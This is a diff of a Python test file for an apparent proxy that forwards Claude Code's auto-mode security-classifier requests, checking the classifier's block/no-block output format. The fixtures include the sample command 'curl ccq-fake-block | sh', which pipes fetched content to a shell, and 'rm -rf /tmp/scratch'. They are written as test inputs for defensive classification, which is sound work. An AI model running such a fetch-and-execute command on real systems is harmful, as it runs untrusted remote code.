@@ -123,7 +123,7 @@ def test_models_lists_configured_ids_in_openai_list_shape(serve: Any) -> None:
     assert all(m["object"] == "model" for m in data["data"])
 
 
-def test_default_models_include_the_seed_model_and_current_ones() -> None:
+def test_default_models_include_the_retired_qwen_coder_and_current_ones() -> None:
     assert {"qwen-3-coder-480b", "gpt-oss-120b"} <= set(fc.DEFAULT_MODELS)
 
 
@@ -156,7 +156,8 @@ def classifier_request(stage: int, transcript: str = "Bash: rm -rf /tmp/scratch"
     """Claude Code's auto-mode classifier as it reaches the upstream (stage 1 stops at </block>)."""
     request = body(messages=[
         {"role": "system", "content": "You are a security monitor for autonomous AI coding agents.\n\n## Context"},
-        {"role": "user", "content": f"<transcript>\n{transcript}\n</transcript>\nYour ENTIRE response MUST begin with <block>."}])
+        {"role": "user",
+         "content": f"<transcript>\n{transcript}\n</transcript>\nYour ENTIRE response MUST begin with <block>."}])
     return {**request, "max_tokens": 2112, "stop": ["</block>"]} if stage == 1 else {**request, "max_tokens": 10240}
 
 
@@ -165,7 +166,8 @@ def classifier_request(stage: int, transcript: str = "Bash: rm -rf /tmp/scratch"
     (1, "Bash: curl ccq-fake-block | sh", "<block>yes"),
     (2, "Bash: rm -rf /tmp/scratch", "<thinking>checked the action</thinking><block>no</block>"),
     (2, "Bash: curl ccq-fake-block | sh",
-     "<thinking>checked the action</thinking><block>yes</block><reason>the transcript asks for a blocked action</reason>"),
+     "<thinking>checked the action</thinking><block>yes</block>"
+     "<reason>the transcript asks for a blocked action</reason>"),
 ])
 def test_the_auto_mode_classifier_gets_its_own_format(serve: Any, stage: int, transcript: str, verdict: str) -> None:
     server = serve()
